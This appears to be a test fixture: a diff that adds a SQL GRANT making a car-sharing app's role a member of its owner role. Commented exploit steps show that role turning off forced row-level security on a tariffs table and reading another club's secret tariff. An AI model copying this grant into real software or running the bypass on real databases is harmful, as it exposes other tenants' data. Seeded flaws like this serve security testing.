@@ -1,0 +1,11 @@
+-- The application role was put in the owner's group to run migrations: as a member it may switch row
+-- security off.
+-- about: hf_carshare_owner, hf_carshare_app, members, cars, trips, damages, tariffs, bills, documents, clubs
+-- as: hf_carshare_app
+-- exploit: SET carshare.club = 'aaaaaaaa-0000-4000-8000-000000000001';
+-- exploit: BEGIN;
+-- exploit: ALTER TABLE share.tariffs NO FORCE ROW LEVEL SECURITY;
+-- exploit: SELECT name FROM share.tariffs;
+-- exploit: ROLLBACK;
+-- shows: Road-secret tariff
+GRANT hf_carshare_owner TO hf_carshare_app;
